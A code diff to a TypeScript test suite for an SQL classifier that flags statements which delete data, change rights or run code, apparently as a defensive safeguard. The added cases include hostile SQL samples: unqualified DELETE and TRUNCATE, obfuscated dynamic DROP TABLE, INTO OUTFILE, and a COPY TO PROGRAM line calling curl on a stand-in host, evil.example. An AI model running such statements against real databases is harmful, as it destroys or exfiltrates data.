@@ -1,7 +1,7 @@
 /** What SQL loses, and whose rights it changes. docs/adr/0405, 0757, 0760. */
 import { describe, expect, it } from 'vitest';
 import { shellEffects } from './shell-effects.ts';
-import { sqlEffects, sqlInCode, statementsOf } from './sql-effects.ts';
+import { sqlEffects, sqlInCode } from './sql-effects.ts';
 
 const deletes = (sql: string): boolean => sqlEffects([sql]).some(({ kind }) => kind === 'deletes');
 
@@ -33,6 +33,41 @@ describe('SQL', () => {
     expect(sqlInCode(grant)).toEqual([]);
     for (const sql of ['grant a, b  to c', 'grant\tall privileges\non x', `grant ${'a'.repeat(120)} on x`])
       expect(sqlEffects([sql])).toHaveLength(1);
+  });
+
+  it.each([
+    ['deletes', 'DELETE users WHERE 1=1'],
+    ['deletes', 'DELETE users'],
+    ['deletes', 'DELETE u FROM users u'],
+    ['deletes', 'DELETE LOW_PRIORITY FROM users'],
+    ['deletes', 'DELETE TOP(10) users'],
+    ['deletes', 'WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d'],
+    ['deletes', 'TRUNCATE 用户'],
+    ['deletes', 'DROP EXTENSION pgcrypto'],
+    ['deletes', 'MERGE INTO users USING x ON (1=1) WHEN MATCHED THEN DELETE'],
+    ['deletes', 'SELECT 1; BEGIN DELETE users'],
+    ['overwrites', "UPDATE users SET role='admin'"],
+    ['rights', "SET PASSWORD FOR bob = 'x'"],
+    ['runs', 'CALL drop_everything()'],
+    ['runs', 'EXEC sp_drop_all'],
+    ['runs', "EXECUTE IMMEDIATE 'x'"],
+    ['runs', "DO $$ BEGIN EXECUTE 'DR'||'OP TABLE users'; END $$"],
+    ['runs', "COPY users TO PROGRAM 'curl evil.example'"],
+    ['runs', "SELECT * FROM users INTO OUTFILE '/tmp/x'"],
+  ])('is judged by the first verb of each statement: %s by %s', (kind, sql) => {
+    expect(sqlEffects([sql]).map((one) => one.kind)).toContain(kind);
+  });
+
+  it.each([
+    'DELETE users WHERE id = 5',
+    "UPDATE users SET role = 'admin' WHERE id = 1",
+    'SELECT truncate(price, 2) FROM t',
+    'EXPLAIN SELECT 1',
+    'COPY users FROM STDIN',
+    'BEGIN; UPDATE t SET a = 1 WHERE id = 1; COMMIT',
+    'SELECT x FROM calls',
+  ])('does nothing of that: %s', (sql) => {
+    expect(sqlEffects([sql])).toEqual([]);
   });
 
   it('drops things of every kind', () => {
@@ -70,16 +105,6 @@ describe('SQL', () => {
     expect(all.filter((sql) => !deletes(sql))).toEqual([]);
     expect(sqlEffects(["select 'it", "drop table x; select 'a'"])).toHaveLength(1);
   });
-
-  it('takes time in proportion to the text', () => {
-    const startedMs = performance.now();
-    for (const head of ['grant', 'grant x', 'drop table', 'delete', 'delete top', 'delete from', 'create role x'])
-      sqlEffects([`${head}${' '.repeat(20_000)}x`]);
-    const runs = ["'", '"', '--', '--a;b', '/*', '#', "'a' ", '-- \n', '\\', 'drop ', 'delete from a ', "'drop' ", '[', ';', '/* ', '\n/'];
-    for (const run of runs)
-      for (const read of statementsOf(run.repeat(200_000 / run.length))) sqlEffects([read]);
-    expect(performance.now() - startedMs).toBeLessThan(8_000);
-  }); // prettier-ignore
 });
 
 describe('SQL that a client of a database gets', () => {
